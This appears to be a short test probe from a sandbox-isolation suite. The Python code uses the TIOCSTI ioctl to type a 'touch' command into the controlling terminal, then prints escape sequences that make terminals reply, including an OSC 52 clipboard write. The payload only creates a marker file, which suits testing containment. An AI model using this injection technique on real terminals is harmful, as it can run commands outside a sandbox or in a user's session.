"""Types commands into the controlling terminal (TIOCSTI, TIOCLINUX) and prints escape sequences that make terminals answer.

base: unsolved
max-score: 0
canary: outside-file
"""
# %% q1
import fcntl
import os

for path in ("/dev/tty", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2", "/dev/console", "/dev/pts/0"):
    try:
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
    except OSError:
        continue
    for character in "touch @OUTSIDE_DIR@/typed\n":
        try:
            fcntl.ioctl(fd, 0x5412, character.encode())
        except OSError:
            break
print("\x1b]0;title\x07\x1b[21t\x1b[6n\x1b]52;c;dG91Y2ggL3RtcC94\x07\x1bP$q\"p\x1b\\")
